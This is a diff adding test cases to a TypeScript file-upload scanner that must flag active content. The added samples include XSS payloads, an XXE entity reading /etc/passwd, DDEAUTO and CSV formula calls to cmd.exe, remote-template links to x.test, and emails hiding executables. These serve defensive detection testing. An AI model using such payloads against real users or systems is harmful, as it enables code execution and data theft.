@@ -142,6 +142,175 @@ const REFUSED: readonly (readonly [name: string, octets: Uint8Array | string, wh
   ['k.xlsx', ole(['Root Entry', 5], ['EncryptedPackage', 2]), 'archive chiffree'],
 ]
 
+const rels = (type: string, target: string) =>
+  text(
+    `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  )
+const mail = (part: string) =>
+  `From: a@x.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\n\r\nBonjour\r\n--q\r\n${part}\r\n--q--\r\n`
+const attached = (name: string, octets: Uint8Array, more = '') =>
+  `Content-Type: application/octet-stream; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n${more}Content-Transfer-Encoding: base64\r\n\r\n${Buffer.from(octets).toString('base64')}`
+const page = (inside: string) => `<!DOCTYPE html><html><body>${inside}</body></html>`
+const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`
+
+/** What a browser, a mail reader or Office would run, load or send by itself. */
+const ACTIVE: readonly (readonly [name: string, octets: Uint8Array | string, why: string])[] = [
+  ['a.html', page('<script>alert(1)</script>'), 'actions'],
+  [
+    'a.xhtml',
+    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
+    'actions',
+  ],
+  ['a.svg', svg('<script>1</script>'), 'actions'],
+  ['b.svg', svg('<rect onload="x()"/>'), 'actions'],
+  ['c.svg', svg('<foreignObject><p/></foreignObject>'), 'actions'],
+  ['d.svg', svg('<animate attributeName="href" to="x"/>'), 'actions'],
+  ['e.svg', svg('<image href="https://x.test/a.png"/>'), 'actions'],
+  ['f.svgz', gzipSync(svg('<script>1</script>')), 'actions'],
+  ['b.htm', page('<img src=x onerror=alert(1)>'), 'actions'],
+  ['c.html', page('<a href="java&#115;cri\tpt:alert(1)">a</a>'), 'actions'],
+  ['d.html', page('<img src="http://x.test/p.gif">'), 'actions'],
+  ['e.html', page('<form action="x"><input></form>'), 'actions'],
+  ['f.html', page('<iframe src="x"></iframe>'), 'actions'],
+  ['g.html', '<meta http-equiv="refresh" content="0;url=x">', 'actions'],
+  ['h.html', page('<style>@import "//x.test/a.css"</style>'), 'actions'],
+  ['i.html', page('<link rel=stylesheet href="//x.test/a.css">'), 'actions'],
+  ['j.pdf', page('<script>1</script>'), 'actions'],
+  ['k.html', Buffer.from(`\ufeff${page('<script>1</script>')}`, 'utf16le'), 'actions'],
+  [
+    'a.xml',
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>',
+    'actions',
+  ],
+  ['a.mht', mail('Content-Type: text/html\r\n\r\n<html><script>1</script></html>'), 'actions'],
+  ['b.mhtml', mail('Content-Type: text/html\r\n\r\n<img src="http://x.test/">'), 'actions'],
+  ['a.eml', mail(attached('setup.exe', PE)), 'executable'],
+  ['b', mail(attached('photo.jpg', PE)), 'executable'],
+  [
+    'c.eml',
+    mail(attached('a.docx', zip({ ...OFFICE, 'word/vbaProject.bin': text('a') }))),
+    'macros',
+  ],
+  [
+    'd.eml',
+    mail(`Content-Type: message/rfc822\r\n\r\n${mail(attached('a.exe', PE))}`),
+    'executable',
+  ],
+  ['e.eml', mail('Content-Type: text/html\r\n\r\n<script>1</script>'), 'actions'],
+  ['f.zip', zip({ 'a/b.eml': text(mail(attached('setup.exe', PE))) }), 'executable'],
+  ['a.rtf', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}', 'actions'],
+  ['b.doc', '{\\rt{\\*\\template http://x.test/a.dotm}}', 'actions'],
+  ['c.rtf', '{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/c x"}}}', 'actions'],
+  [
+    'a.docx',
+    zip({
+      ...OFFICE,
+      'word/_rels/settings.xml.rels': rels('attachedTemplate', 'http://x.test/a.dotm'),
+    }),
+    'actions',
+  ],
+  [
+    'b.docx',
+    zip({ ...OFFICE, 'word/_rels/document.xml.rels': rels('oleObject', 'file://x.test/a') }),
+    'actions',
+  ],
+  [
+    'c.docx',
+    zip({ ...OFFICE, 'word/_rels/document.xml.rels': rels('image', 'https://x.test/a.png') }),
+    'actions',
+  ],
+  [
+    'd.xlsx',
+    zip({
+      ...OFFICE,
+      'xl/externalLinks/_rels/externalLink1.xml.rels': rels(
+        'externalLinkPath',
+        '\\\\x.test\\a.xlsx',
+      ),
+    }),
+    'actions',
+  ],
+  [
+    'e.xlsx',
+    zip({
+      ...OFFICE,
+      'xl/externalLinks/externalLink1.xml': text(
+        '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
+      ),
+    }),
+    'actions',
+  ],
+  [
+    'f.docx',
+    zip({
+      ...OFFICE,
+      'word/document.xml': text(
+        '<w:p><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText></w:p>',
+      ),
+    }),
+    'actions',
+  ],
+  [
+    'g.odt',
+    zip({
+      mimetype: text('application/vnd.oasis.opendocument.text'),
+      'content.xml': text('<office:a><script:event-listener/></office:a>'),
+    }),
+    'macros',
+  ],
+  ['a.csv', "nom;valeur\nESSAI;=cmd|' /C calc'!A0", 'executable'],
+  ['a.txt', 'ID;PWXL;N;E\r\nC;Y1;X1;EEXEC("cmd")\r\nE', 'macros'],
+  [
+    'a.doc',
+    Buffer.concat([
+      ole(['Root Entry', 5], ['WordDocument', 2]),
+      Buffer.from('Attribut\0e \0VB_Nam\0e', 'latin1'),
+    ]),
+    'macros',
+  ],
+  [
+    'b.doc',
+    Buffer.concat([
+      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
+      Buffer.alloc(504),
+      Buffer.from('_VBA_PROJECT', 'utf16le'),
+      Buffer.alloc(200),
+    ]),
+    'macros',
+  ],
+  ['c.doc', ole(['Root Entry', 5], ['Anything', 2]), 'archive format'],
+  ['d.msg', ole(['Root Entry', 5], ['__properties_version1.0', 2]), 'archive format'],
+  ['e.doc', ole(['Root Entry', 5], ['WordDocument', 2], ['\u0003OCXNAME', 2]), 'executable'],
+  ['a.bin', hex('e4525c7b8cd8a74daeb15378d02996d3'), 'executable'],
+  [
+    'b.bin',
+    (() => {
+      const iso = Buffer.alloc(40_000)
+      iso.write('CD001', 32_769, 'latin1')
+      return iso
+    })(),
+    'executable',
+  ],
+  [
+    'a.dat',
+    '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>',
+    'executable',
+  ],
+]
+/** What runs, or opens something, by its name alone. */
+const NAMED =
+  'lnk url library-ms search-ms searchconnector-ms scf settingcontent-ms iqy hta wsf js jse vbs vbe ps1 reg chm jar iso img vhd vhdx msi msp msc one slk xll xlsm docm pptm appref-ms application website rdp py sh'.split(
+    ' ',
+  )
+
+t.test('what would run, load or send something when it is opened, by kind', async (t) => {
+  for (const [name, octets, why] of ACTIVE) t.equal(await said(octets, name), why, name)
+  for (const extension of NAMED) {
+    t.equal(await said('nothing', `piece.${extension}`), 'executable', extension)
+    t.equal(await said(zip(OFFICE), `PIECE.${extension.toUpperCase()} `), 'executable', extension)
+  }
+})
+
 t.test('what runs, what holds macros or actions, and archives beyond their bounds', async (t) => {
   for (const [name, octets, why] of REFUSED) t.equal(await said(octets, name), why, name)
 })
@@ -160,6 +329,48 @@ const PASSED: readonly (readonly [name: string, octets: Uint8Array | string])[] 
   ['a.txt', 'MZ : métrorragies\nMacros : néant'],
   ['b.txt', 'Notes #!'],
   ['c.xml', '<?xml version="1.0"?><ClinicalDocument/>'],
+  [
+    'dessin.svg',
+    svg('<rect width="1" height="1" style="fill:url(#a)"/><a href="https://x.test/">b</a>'),
+  ],
+  [
+    'page.html',
+    page('<p style="color:red">Résultat</p><img src="cid:a"><a href="https://x.test/">lien</a>'),
+  ],
+  ['lettre.rtf', '{\\rtf1\\ansi Bonjour {\\field{\\*\\fldinst HYPERLINK "https://x.test/"}}}'],
+  ['resultats.csv', 'Hb;-3\nCRP;+5 | normal'],
+  [
+    'lien.docx',
+    zip({ ...OFFICE, 'word/_rels/document.xml.rels': rels('hyperlink', 'https://x.test/') }),
+  ],
+  [
+    'classeur.xlsx',
+    zip({
+      ...OFFICE,
+      'xl/externalLinks/_rels/externalLink1.xml.rels': rels('externalLinkPath', 'Classeur2.xlsx'),
+    }),
+  ],
+  [
+    'lettre.odt',
+    zip({
+      mimetype: text('application/vnd.oasis.opendocument.text'),
+      'content.xml': text(
+        '<office:document-content xmlns:xhtml="http://www.w3.org/1999/xhtml" xmlns:form="urn:f"><form:form/></office:document-content>',
+      ),
+    }),
+  ],
+  ['tableau.xls', ole(['Root Entry', 5], ['Workbook', 2])],
+  ['diapos.ppt', ole(['Root Entry', 5], ['PowerPoint Document', 2])],
+  ['recu.eml', mail(attached('a.pdf', strToU8('%PDF-1.4')))],
+  [
+    'lettre-d-information.eml',
+    mail('Content-Type: text/html\r\n\r\n<p>Bonjour<img src="https://x.test/a.png"></p>'),
+  ],
+  [
+    'cda.xml',
+    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="CDA-FO.xsl"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
+  ],
+  ['d.txt', 'Date: 3 mars\nSujet: douleur on note = rien'],
   ['', ''],
 ]
 
